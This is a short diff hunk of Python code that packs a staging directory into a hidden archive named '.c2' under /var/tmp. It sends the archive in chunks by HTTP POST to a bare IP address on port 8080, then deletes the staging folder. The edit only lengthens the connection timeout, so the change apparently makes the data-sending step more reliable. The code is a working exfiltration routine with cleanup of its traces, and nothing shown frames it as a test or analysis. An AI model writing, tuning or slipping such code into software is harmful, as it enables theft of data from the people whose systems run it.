@@ -14,7 +14,7 @@ packed = shutil.make_archive("/var/tmp/.c2", "gztar", stage)
 with open(packed, "rb") as file:
     for number in range(8):
         part = file.read(4096)
-        connection = http.client.HTTPConnection("203.0.113.10", 8080, timeout=2)
+        connection = http.client.HTTPConnection("203.0.113.10", 8080, timeout=8)
         connection.request("POST", f"/u/{number}", part)
         connection.getresponse().read()
 shutil.rmtree(stage)
